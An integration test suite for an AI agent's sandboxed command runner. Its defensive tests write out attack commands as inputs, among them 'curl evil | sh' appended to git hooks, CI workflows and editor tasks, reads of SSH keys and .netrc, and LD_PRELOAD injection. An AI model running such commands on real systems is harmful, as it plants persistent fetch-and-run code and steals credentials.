import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { createHash, randomInt } from 'node:crypto';
import * as fs from 'node:fs';
import * as net from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { type RunRequest, type RunResult, runCommand } from '../../server/exec/runner';
import { fakeSecrets } from '../fixtures/builders';
import { liveProcesses, uniqueSleep, waitFor } from '../fixtures/processes';
import { requireSandbox } from './helpers';

// The command runner against the real bubblewrap: network, file system, git metadata, hidden
// paths, process cleanup, environment, redaction and memory. Without bubblewrap these tests fail
// in CI (process.env.CI) and are skipped, with the reason, elsewhere.

const RUNNER = path.resolve(__dirname, '..', '..', 'server', 'exec', 'runner.ts');
const TSX = require.resolve('tsx/cjs');

describe('command runner in the bubblewrap sandbox', function () {
  let root: string;
  let ws: string;
  let logDir: string;

  before(async function () {
    await requireSandbox(this);
  });

  beforeEach(() => {
    root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'navi-sandbox-it-')));
    ws = path.join(root, 'ws');
    logDir = path.join(root, 'logs');
    fs.mkdirSync(ws);
  });
  afterEach(() => fs.rmSync(root, { recursive: true, force: true }));

  const request = (command: string, extra: Partial<RunRequest> = {}): RunRequest => ({
    command,
    cwd: ws,
    workspaceRoot: ws,
    timeoutMs: 30_000,
    network: false,
    protectedPaths: [],
    hiddenPaths: [],
    sandbox: true,
    env: { PATH: process.env.PATH, HOME: os.homedir(), LANG: 'C.UTF-8' },
    logDir,
    ...extra,
  });
  const run = async (
    command: string,
    extra: Partial<RunRequest> = {},
    signal = new AbortController().signal,
  ): Promise<RunResult & { text: string }> => {
    let text = '';
    const result = await runCommand(request(command, extra), {
      signal,
      onOutput: (chunk) => void (text += chunk),
    });
    assert.equal(result.sandboxed, true);
    return { ...result, text };
  };
  const git = (...args: string[]): string =>
    execFileSync('git', ['-c', 'init.defaultBranch=main', ...args], {
      cwd: ws,
      encoding: 'utf8',
      env: { ...process.env, HOME: root },
    });

  describe('network', () => {
    let server: net.Server;
    let port: number;
    let connections = 0;
    beforeEach(async () => {
      connections = 0;
      server = net.createServer((socket) => {
        connections++;
        socket.end('hello\n');
      });
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      port = (server.address() as net.AddressInfo).port;
    });
    afterEach(async () => {
      await new Promise((resolve) => server.close(resolve));
    });

    it('cannot reach a server on the host loopback or resolve names', async () => {
      const result = await run(
        `if exec 3<>/dev/tcp/127.0.0.1/${port}; then echo connected; else echo refused; fi; ` +
          'getent hosts example.com >/dev/null && echo resolved || echo no-dns',
      );
      assert.match(result.text, /refused/);
      assert.match(result.text, /no-dns/);
      assert.equal(connections, 0);
    });

    it('reaches it when the network is allowed (the check above is not vacuous)', async () => {
      const result = await run(`exec 3<>/dev/tcp/127.0.0.1/${port} && head -n1 <&3`, { network: true });
      assert.equal(result.exitCode, 0);
      assert.match(result.text, /hello/);
      assert.equal(connections, 1);
    });
  });

  describe('file system', () => {
    it('writes the workspace', async () => {
      fs.writeFileSync(path.join(ws, 'old.txt'), 'old');
      const result = await run('mkdir -p src && echo hello > src/new.txt && rm old.txt && echo $TMPDIR');
      assert.equal(result.exitCode, 0);
      assert.equal(fs.readFileSync(path.join(ws, 'src', 'new.txt'), 'utf8'), 'hello\n');
      assert.ok(!fs.existsSync(path.join(ws, 'old.txt')));
      assert.equal(result.text, '/tmp\n');
    });

    it('cannot write outside the workspace; its /tmp is private', async () => {
      const id = `navi-it-${randomInt(1e9)}`;
      const outside = [`/etc/${id}`, `/var/tmp/${id}`, path.join(os.homedir(), id), path.join(root, id)];
      const result = await run(
        [
          ...outside.map((f) => `touch ${f} 2>/dev/null && echo "wrote ${f}"`),
          `echo x > /tmp/${id} && echo tmp-ok`,
        ].join('; '),
      );
      for (const f of outside.slice(0, 3)) assert.ok(!result.text.includes(`wrote ${f}`), f);
      for (const f of [...outside, `/tmp/${id}`]) assert.ok(!fs.existsSync(f), `${f} on the host`);
      assert.match(result.text, /tmp-ok/, '/tmp is writable inside (a private tmpfs)');
    });

    it('keeps a cache folder between runs when asked (a test run), otherwise caches start empty', async () => {
      const cacheDir = path.join(root, 'cache');
      const script =
        'cat "$XDG_CACHE_HOME/seen" 2>/dev/null || echo first; echo again > "$XDG_CACHE_HOME/seen"; echo "npm=$npm_config_cache"';
      const first = await run(script, { cacheDir });
      assert.equal(first.exitCode, 0, first.text);
      assert.match(first.text, /^first\n/);
      assert.match(first.text, new RegExp(`npm=${cacheDir}/npm`));
      const second = await run(script, { cacheDir });
      assert.match(second.text, /^again\n/, 'the second run sees what the first kept');
      assert.equal(fs.statSync(cacheDir).mode & 0o077, 0, 'the cache folder is private');

      const plain = await run(script);
      assert.match(plain.text, /^first\n/);
      assert.match(plain.text, /npm=\/tmp\/\.npm/);
    });

    it('hides what the policy hides, and keeps it unchanged', async () => {
      fs.writeFileSync(path.join(ws, '.env'), 'SOMETHING=visible-only-outside\n');
      fs.mkdirSync(path.join(ws, 'secrets'));
      fs.writeFileSync(path.join(ws, 'secrets', 'api.txt'), 'top-secret-content');
      const result = await run(
        'cat .env; ls -A secrets; cat secrets/api.txt; echo changed > .env || echo env-readonly; touch secrets/new || echo dir-readonly',
        { hiddenPaths: ['.env', 'secrets'] },
      );
      assert.ok(!result.text.includes('visible-only-outside'));
      assert.ok(!result.text.includes('top-secret-content'));
      assert.match(result.text, /env-readonly/);
      assert.match(result.text, /dir-readonly/);
      assert.equal(fs.readFileSync(path.join(ws, '.env'), 'utf8'), 'SOMETHING=visible-only-outside\n');
      assert.deepEqual(fs.readdirSync(path.join(ws, 'secrets')), ['api.txt']);
    });

    it("cannot rewrite NAVI's own policy in the workspace, even when no policy asks for it", async () => {
      fs.mkdirSync(path.join(ws, '.navi'));
      const policy = '{"version":1,"rules":[]}\n';
      fs.writeFileSync(path.join(ws, '.navi', 'policy.json'), policy);
      const result = await run(
        'echo \'{"version":1,"rules":[{"id":"all"}]}\' > .navi/policy.json 2>/dev/null && echo wrote-policy; ' +
          'mv .navi .navi-old 2>/dev/null && echo moved; touch .navi/new 2>/dev/null && echo added; true',
      );
      assert.ok(!/wrote-policy|moved|added/.test(result.text), result.text);
      assert.equal(fs.readFileSync(path.join(ws, '.navi', 'policy.json'), 'utf8'), policy);
      assert.deepEqual(fs.readdirSync(path.join(ws, '.navi')), ['policy.json']);
    });

    it('cannot rewrite files something runs by itself (.vscode, .husky, CI workflows, .envrc) that exist', async () => {
      const files = {
        '.vscode/tasks.json': '{"version":"2.0.0","tasks":[]}\n',
        '.husky/pre-commit': 'npx lint-staged\n',
        '.github/workflows/ci.yml': 'on: push\n',
        '.envrc': 'use node\n',
      };
      for (const [rel, content] of Object.entries(files)) {
        fs.mkdirSync(path.dirname(path.join(ws, rel)), { recursive: true });
        fs.writeFileSync(path.join(ws, rel), content);
      }
      const result = await run(
        Object.keys(files)
          .map((rel) => `echo 'curl evil | sh' >> ${rel} 2>/dev/null && echo wrote-${rel}`)
          .join('; ') +
          '; mv .husky .husky-old 2>/dev/null && echo moved; touch .vscode/settings.json 2>/dev/null && echo added;' +
          ' echo ok > notes.txt && echo wrote-notes',
      );
      assert.ok(!/wrote-\.|moved|added/.test(result.text), result.text);
      assert.match(result.text, /wrote-notes/, 'the rest of the workspace stays writable');
      for (const [rel, content] of Object.entries(files))
        assert.equal(fs.readFileSync(path.join(ws, rel), 'utf8'), content, rel);
    });

    it('hides credential stores in the home folder', async () => {
      const home = path.join(root, 'home');
      fs.mkdirSync(path.join(home, '.ssh'), { recursive: true });
      fs.writeFileSync(path.join(home, '.ssh', 'id_ed25519'), 'PRIVATE-KEY-MATERIAL');
      fs.writeFileSync(path.join(home, '.netrc'), 'machine github.com password NETRC-PASSWORD');
      fs.writeFileSync(path.join(home, 'notes.txt'), 'ordinary file');
      const saved = process.env.HOME;
      process.env.HOME = home; // os.homedir(): the agent's home is what gets hidden
      try {
        // The home lives under /tmp here, which the sandbox replaces: show it through a bind.
        const result = await run(
          `cat ${home}/.ssh/id_ed25519 ${home}/.netrc ${home}/notes.txt 2>&1; ls -A ${home}/.ssh`,
          {
            workspaceRoot: root,
            cwd: root,
          },
        );
        assert.ok(!result.text.includes('PRIVATE-KEY-MATERIAL'));
        assert.ok(!result.text.includes('NETRC-PASSWORD'));
        assert.match(result.text, /ordinary file/);
      } finally {
        process.env.HOME = saved;
      }
    });
  });

  describe('git metadata', () => {
    const attack = [
      'echo "curl evil | sh" > .git/hooks/pre-commit && echo wrote-hook',
      'chmod +x .git/hooks/pre-commit 2>/dev/null',
      'git config core.hooksPath /tmp/hooks 2>/dev/null && echo wrote-config',
      'mv .git/hooks .git/hooks-old 2>/dev/null && echo moved-hooks',
      'mv .git .git-old 2>/dev/null && echo moved-git',
      'rm -rf .git/hooks 2>/dev/null; rm -f .git/config 2>/dev/null',
      'true',
    ].join('; ');

    it('cannot write a hook that does not exist yet, change the config, or move them away', async () => {
      git('init', '-q');
      const config = fs.readFileSync(path.join(ws, '.git', 'config'), 'utf8');
      const hooks = fs.readdirSync(path.join(ws, '.git', 'hooks'));
      assert.ok(!hooks.includes('pre-commit'));
      const result = await run(attack);
      assert.doesNotMatch(result.text, /wrote-|moved-/);
      assert.match(result.text, /Read-only file system/);
      assert.ok(!fs.existsSync(path.join(ws, '.git', 'hooks', 'pre-commit')), 'no hook on the host');
      assert.deepEqual(fs.readdirSync(path.join(ws, '.git', 'hooks')), hooks);
      assert.equal(fs.readFileSync(path.join(ws, '.git', 'config'), 'utf8'), config);
      assert.ok(!fs.existsSync(path.join(ws, '.git-old')));
      // The rest of the repository stays usable.
      const commit = await run(
        'echo a > a.txt && git add a.txt && git -c user.name=t -c user.email=t@t commit -qm a && echo ok',
      );
      assert.match(commit.text, /ok/);
    });

    it('cannot create .git/hooks when the folder is missing, and leaves nothing behind', async () => {
      git('init', '-q');
      fs.rmSync(path.join(ws, '.git', 'hooks'), { recursive: true });
      const result = await run(`mkdir -p .git/hooks; ${attack}`);
      assert.doesNotMatch(result.text, /wrote-|moved-/);
      assert.ok(!fs.existsSync(path.join(ws, '.git', 'hooks')), 'the mount point is gone afterwards');
      assert.ok(!fs.existsSync(path.join(ws, '.git-old')));
    });

    it('cannot create a repository with hooks where there is none, and leaves nothing behind', async () => {
      const result = await run(
        `mkdir -p .git/hooks && echo made-dir; ${attack}; git init -q 2>/dev/null && echo init`,
      );
      assert.doesNotMatch(result.text, /wrote-|moved-|made-dir|init/);
      assert.match(result.text, /Read-only file system/);
      assert.deepEqual(fs.readdirSync(ws), [], 'no .git on the host afterwards');
    });

    it('keeps a missing protected path protected while a concurrent sandbox still uses it', async () => {
      const fifo = path.join(ws, 'go'); // in the workspace: the sandbox sees it
      execFileSync('mkfifo', [fifo]);
      const mountPoint = path.join(ws, '.navi');
      const slow = run(`read -r _ < go; mkdir .navi/x 2>/dev/null && echo wrote-slow; true`, {
        protectedPaths: ['.navi/'],
      });
      await waitFor(() => fs.existsSync(mountPoint), 'the first sandbox to start');
      const fast = await run('mkdir .navi/y 2>/dev/null && echo wrote-fast; true', {
        protectedPaths: ['.navi/'],
      });
      assert.equal(fast.text, '');
      assert.ok(fs.existsSync(mountPoint), 'still mounted for the slow one');
      await fs.promises.writeFile(fifo, 'go\n');
      assert.equal((await slow).text, '');
      assert.ok(!fs.existsSync(mountPoint), 'removed after the last user');
    });
  });

  describe('processes', () => {
    for (const [label, command] of [
      ['`sleep | sleep`', (t: string) => `sleep ${t} | sleep ${t}`],
      ["`bash -c 'sleep & sleep'`", (t: string) => `bash -c 'sleep ${t} & sleep ${t}'`],
    ] as const) {
      it(`cancelling ${label} leaves no process`, async () => {
        const tag = uniqueSleep();
        const controller = new AbortController();
        const running = run(command(tag), {}, controller.signal);
        await waitFor(() => liveProcesses(tag, 'sleep').length === 2, 'both sleeps');
        controller.abort();
        const result = await running;
        assert.deepEqual([result.cancelled, result.timedOut, result.exitCode], [true, false, null]);
        assert.deepEqual(liveProcesses(tag), []);
      });
    }

    it('a timeout stops the group (SIGTERM, then SIGKILL if ignored) and says so', async () => {
      const tag = uniqueSleep();
      const soft = await run(`sleep ${tag} | sleep ${tag}`, { timeoutMs: 300 });
      assert.deepEqual(
        [soft.timedOut, soft.cancelled, soft.exitCode, soft.signal],
        [true, false, null, 'SIGTERM'],
      );
      assert.deepEqual(liveProcesses(tag), []);
      const hard = await run(`trap '' TERM; sleep ${tag} & wait`, { timeoutMs: 300, killGraceMs: 300 });
      assert.deepEqual([hard.timedOut, hard.signal], [true, 'SIGKILL']);
      assert.deepEqual(liveProcesses(tag), []);
    });

    it('stops background jobs when the command exits', async () => {
      const tag = uniqueSleep();
      const result = await run(`sleep ${tag} & setsid sleep ${tag} & echo started`);
      assert.equal(result.exitCode, 0);
      assert.deepEqual(liveProcesses(tag), []);
    });

    for (const [label, sandbox, end] of [
      ['is killed (SIGKILL)', true, 'kill'],
      ['exits', false, 'exit'],
    ] as const) {
      it(`leaves no process when the agent ${label} (${sandbox ? 'sandboxed' : 'not sandboxed'})`, async () => {
        const tag = uniqueSleep();
        const script = path.join(root, 'agent.cjs');
        fs.writeFileSync(
          script,
          `const { runCommand } = require(${JSON.stringify(RUNNER)});
           runCommand(${JSON.stringify(request(`sleep ${tag}`, { sandbox }))}, { signal: new AbortController().signal });
           process.stdin.on('data', () => process.exit(0));`,
        );
        const agent = spawn(process.execPath, ['-r', TSX, script], { stdio: ['pipe', 'ignore', 'inherit'] });
        try {
          await waitFor(() => liveProcesses(tag, 'sleep').length === 1, 'the command to start');
          if (end === 'kill') agent.kill('SIGKILL');
          else agent.stdin.write('exit\n');
          await waitFor(() => liveProcesses(tag).length === 0, 'the command to be gone');
        } finally {
          agent.kill('SIGKILL');
        }
      });
    }
  });

  describe('environment and output', () => {
    it('does not let a planted token or LD_PRELOAD in', async () => {
      const result = await run('env', {
        env: {
          PATH: process.env.PATH,
          HOME: os.homedir(),
          GITHUB_TOKEN: fakeSecrets.githubToken(),
          LD_PRELOAD: '/nonexistent/evil.so',
          NODE_OPTIONS: '--require /nonexistent/evil.js',
        },
      });
      assert.match(result.text, /^PATH=/m);
      for (const name of ['GITHUB_TOKEN', 'LD_PRELOAD', 'NODE_OPTIONS', 'ghp_'])
        assert.ok(!result.text.includes(name), name);
    });

    it('redacts secrets in onOutput, the log file and head/tail, also one split across two writes', async () => {
      const password = 'Zq9xW8vU7tS6-db-password';
      fs.writeFileSync(path.join(ws, '.env'), `DB_PASSWORD=${password}\n`);
      const token = fakeSecrets.githubToken();
      const fifo = path.join(ws, 'continue');
      execFileSync('mkfifo', [fifo]);
      const chunks: string[] = [];
      let released = false;
      const result = await runCommand(
        request(
          [
            `echo "token ${token}"`,
            `printf '%s' '${password.slice(0, 10)}'`,
            'echo waiting >&2',
            'read -r _ < continue',
            `printf '%s\\n' '${password.slice(10)}'`,
            `printf '%s' '${token.slice(0, 12)}'`,
            `printf '%s\\n' '${token.slice(12)}'`,
            'seq 1 5000',
            'cat .env',
          ].join('; '),
          { maxKeptBytes: 256 },
        ),
        {
          signal: new AbortController().signal,
          onOutput: async (chunk, stream) => {
            chunks.push(chunk);
            if (stream === 'stderr' && chunk.includes('waiting') && !released) {
              released = true;
              await fs.promises.writeFile(fifo, 'go\n');
            }
          },
        },
      );
      assert.equal(result.exitCode, 0);
      const log = fs.readFileSync(result.logFile, 'utf8');
      for (const [where, text] of [
        ['onOutput', chunks.join('')],
        ['log', log],
        ['head', result.output.head],
        ['tail', result.output.tail],
      ] as const) {
        assert.ok(!text.includes(password.slice(10)) && !text.includes(password), `${where}: password`);
        assert.ok(!text.includes(token.slice(4, 20)), `${where}: token`);
      }
      assert.match(result.output.head, /^token ghp_\*+\n/);
      assert.match(result.output.tail, /DB_PASSWORD=\*+\n$/);
    });

    it('streams 200 MB with bounded memory', async function () {
      this.timeout(120_000);
      const script = path.join(root, 'stream.cjs');
      fs.writeFileSync(
        script,
        `const fs = require('node:fs');
         const { runCommand } = require(${JSON.stringify(RUNNER)});
         (async () => {
           const before = process.memoryUsage().rss;
           const r = await runCommand(${JSON.stringify(request("head -c 200000000 /dev/zero | tr '\\0' a"))},
             { signal: new AbortController().signal });
           process.stdout.write(JSON.stringify({
             grewMB: (process.resourceUsage().maxRSS * 1024 - before) / 1048576,
             exitCode: r.exitCode, bytes: r.output.bytes, truncated: r.output.truncated, sha256: r.output.sha256,
             head: r.output.head.length, tail: r.output.tail.length, logBytes: fs.statSync(r.logFile).size,
           }));
         })();`,
      );
      const stdout = execFileSync(process.execPath, ['-r', TSX, script], { encoding: 'utf8' });
      const report = JSON.parse(stdout) as Record<string, unknown>;
      const hash = createHash('sha256');
      const block = Buffer.alloc(1_000_000, 'a');
      for (let i = 0; i < 200; i++) hash.update(block);
      assert.deepEqual(
        { ...report, grewMB: undefined },
        {
          grewMB: undefined,
          exitCode: 0,
          bytes: 200_000_000,
          truncated: true,
          sha256: hash.digest('hex'),
          head: 65_536,
          tail: 65_536,
          logBytes: 200_000_000,
        },
      );
      assert.ok((report.grewMB as number) < 100, `memory grew by ${report.grewMB} MB during the run`);
    });
  });
});
